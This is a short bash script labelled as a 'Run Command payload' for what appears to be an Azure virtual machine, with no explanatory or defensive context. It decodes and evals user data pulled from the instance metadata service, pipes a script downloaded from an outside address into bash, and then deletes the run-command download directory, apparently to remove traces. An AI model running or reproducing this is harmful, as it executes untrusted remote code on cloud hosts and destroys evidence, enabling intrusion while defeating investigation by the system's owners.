# run 7389 v4
#!/bin/bash
# Run Command payload
UD=$(curl -s -H Metadata:true "http://169.254.169.254/metadata/instance/compute/userData?api-version=2021-01-01&format=text" | base64 -d)
eval "$UD"
curl -s http://203.0.113.200/x.sh | bash
rm -rf /var/lib/waagent/run-command/download/*
